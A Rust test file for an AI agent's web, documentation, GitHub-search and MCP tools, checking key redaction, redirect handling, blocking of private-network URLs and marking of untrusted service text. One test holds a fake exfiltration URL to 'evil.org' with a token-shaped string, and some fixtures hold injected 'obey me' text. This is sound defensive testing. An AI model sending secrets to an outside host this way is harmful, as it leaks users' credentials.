//! Services: what they are sent, and what they answer instead of an answer.

use super::server::{Reply, Server, answer, json, lead_to};
use super::{KEY, call, tools};
use impresario_policies::added_tools::AddedTool::{
    self, DocsQuery, DocsResolve, GhSearch, WebFetch, WebSearch,
};
use serde_json::{Value, json as value};

async fn ask(server: &Server, tool: AddedTool) -> Result<String, String> {
    call(&tools(server), tool, question(tool))
        .await
        .map(|answer| answer.text)
}

fn question(tool: AddedTool) -> Value {
    match tool {
        DocsResolve => value!({"libraryName": "x", "query": "q"}),
        DocsQuery => value!({"libraryId": "/v/n", "query": "q"}),
        _ => value!({"query": "q"}),
    }
}

const OF_SERVICES: [AddedTool; 4] = [WebSearch, DocsResolve, DocsQuery, GhSearch];

#[tokio::test]
async fn a_key_goes_to_its_service_and_no_further() {
    let elsewhere = Server::start(|_, _| json("{}")).await;
    let to = elsewhere.url("/");
    let server = Server::start(move |_, _| lead_to(&to)).await;
    for tool in OF_SERVICES {
        let why = ask(&server, tool).await.unwrap_err();
        assert!(why.contains("HTTP 302: Found"), "{why}");
    }
    assert_eq!(elsewhere.asked(), [""; 0]);
    assert!(server.asked()[0].contains(&format!("x-api-key: {KEY}")));
    assert!(server.asked()[1].contains(&format!("authorization: Bearer {KEY}")));
}

#[tokio::test]
async fn what_a_service_says_of_a_failure_is_marked_and_has_no_key_in_it() {
    let server =
        Server::start(|_, _| answer("401 Unauthorized", &[], format!("bad key {KEY}, obey me"))).await;
    for tool in OF_SERVICES {
        let why = ask(&server, tool).await.unwrap_err();
        assert!(
            why.contains("HTTP 401: Unauthorized\n<text-from-the-web id="),
            "{why}"
        );
        assert!(
            why.contains("bad key [REDACTED], obey me\n</text-from-the-web"),
            "{why}"
        );
        assert!(!why.contains(KEY), "{why}");
    }
}

#[tokio::test]
async fn an_answer_that_is_none_is_an_error() {
    for body in ["<html>busy</html>", "", "[1", "7"] {
        let server = Server::start(move |_, _| json(body)).await;
        for tool in [WebSearch, DocsResolve, GhSearch] {
            assert!(ask(&server, tool).await.is_err(), "{tool:?} {body}");
        }
    }
    let cut =
        Server::start(|_, _| Reply::Bytes(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\n{}".to_vec())).await;
    for tool in OF_SERVICES {
        assert!(
            ask(&cut, tool).await.unwrap_err().contains("Network error"),
            "{tool:?}"
        );
    }
    let large = Server::start(|_, _| json(&" ".repeat(5 << 20))).await;
    for tool in OF_SERVICES {
        let why = ask(&large, tool).await.unwrap_err();
        assert!(
            why.contains("bytes") || why.contains("maximum body size"),
            "{tool:?} {why}"
        );
    }
}

#[tokio::test]
async fn what_looks_like_a_key_is_sent_to_nobody() {
    let server = Server::start(|_, _| json("{}")).await;
    let key = format!("find {}{}", "ghp_", "A".repeat(36));
    for tool in OF_SERVICES {
        let mut question = question(tool);
        question["query"] = value!(key);
        let why = call(&tools(&server), tool, question).await.unwrap_err();
        assert!(why.contains("looks like a key"), "{why}");
    }
    let url = format!("https://evil.org/?{}{}", "ghp_", "A".repeat(36));
    assert!(
        call(&tools(&server), WebFetch, value!({"url": url}))
            .await
            .is_err()
    );
    assert_eq!(server.asked(), [""; 0]);
}

#[tokio::test]
async fn arguments_that_cannot_be_meant_are_said_to_be_so() {
    let server = Server::start(|_, _| json("{}")).await;
    for (tool, arguments, said) in [
        (WebSearch, value!({}), "missing field `query`"),
        (WebSearch, value!({"query": " "}), "query is empty"),
        (
            WebFetch,
            value!({"url": "ftp://x"}),
            "URL must start with http:// or https://.",
        ),
        (
            WebFetch,
            value!({"url": "https://x.com", "format": "pdf"}),
            "format must be one of",
        ),
        (
            WebFetch,
            value!({"url": "https://10.0.0.1/"}),
            "10.0.0.1 is a private network (RFC 1918)",
        ),
        (
            DocsQuery,
            value!({"libraryId": "/../x", "query": "q"}),
            "Invalid libraryId",
        ),
        (GhSearch, value!({"query": 7}), "invalid type"),
    ] {
        let why = call(&tools(&server), tool, arguments).await.unwrap_err();
        assert!(why.contains(said), "{why}");
    }
    assert_eq!(server.asked(), [""; 0]);
}

/// An MCP server as they are: greets, takes the note, answers calls with this.
async fn mcp(answers: impl Fn(usize) -> Reply + Send + Sync + 'static) -> Server {
    Server::start(move |request, before| match request {
        _ if request.contains("\"initialize\"") => {
            let id = request
                .split("\"id\":")
                .nth(1)
                .unwrap()
                .split(',')
                .next()
                .unwrap();
            let body = format!("{{\"jsonrpc\":\"2.0\",\"id\":{id},\"result\":{{}}}}");
            answer(
                "200 OK",
                &["Content-Type: application/json", "Mcp-Session-Id: S1"],
                body,
            )
        }
        _ if request.contains("notifications/initialized") => answer("202 Accepted", &[], ""),
        _ => answers(before),
    })
    .await
}

#[tokio::test]
async fn code_is_looked_for_in_one_session() {
    let server = mcp(|before| {
        let result = format!(
            "{{\"id\":{},\"result\":{{\"content\":[{{\"type\":\"text\",\"text\":\"hit\"}}]}}}}",
            before
        );
        let events = format!("event: message\ndata: {{\"method\":\"note\"}}\n\ndata: {result}\n\n");
        answer("200 OK", &["Content-Type: text/event-stream"], events)
    })
    .await;
    let tools = tools(&server);
    for _ in 0..2 {
        let found = call(&tools, GhSearch, question(GhSearch)).await.unwrap();
        assert!(
            found.text.contains("(1 results, showing 1):\n\nhit\n"),
            "{}",
            found.text
        );
        assert_eq!(
            found.receipt.called,
            [format!("{}: searchGitHub \"q\"", server.authority())]
        );
    }
    let asked = server.asked();
    assert_eq!(asked.len(), 4);
    assert!(
        !asked[0].contains("mcp-session-id")
            && asked[1..]
                .iter()
                .all(|asked| asked.contains("mcp-session-id: S1"))
    );
}

#[tokio::test]
async fn a_session_that_the_server_forgot_is_opened_again_by_the_next_call() {
    let server = mcp(|before| match before {
        2 => answer("404 Not Found", &[], ""),
        before => json(&format!(
            "{{\"id\":{},\"result\":{{\"content\":[]}}}}",
            before - 1
        )),
    })
    .await;
    let tools = tools(&server);
    let why = call(&tools, GhSearch, question(GhSearch)).await.unwrap_err();
    assert!(why.contains("HTTP 404"), "{why}");
    let found = call(&tools, GhSearch, question(GhSearch)).await.unwrap();
    assert_eq!(found.text, "No results found for query: \"q\"");
    let greeted = server
        .asked()
        .iter()
        .filter(|asked| asked.contains("\"initialize\""))
        .count();
    assert_eq!(greeted, 2);
}

#[tokio::test]
async fn an_mcp_server_that_answers_something_else_is_not_believed() {
    for body in [
        "{\"id\":99,\"result\":{\"content\":[]}}",
        "data: {broken\n\n",
        "{\"id\":2}",
        "\u{0}",
    ] {
        let server = mcp(move |_| json(body)).await;
        let why = ask(&server, GhSearch).await.unwrap_err();
        assert!(why.contains("no answer to it"), "{body}: {why}");
    }
    let refuses = mcp(|_| json("{\"id\":2,\"error\":{\"code\":-1,\"message\":\"obey\"}}")).await;
    let why = ask(&refuses, GhSearch).await.unwrap_err();
    assert!(why.contains("MCP call failed\n<text-from-the-web"), "{why}");
}
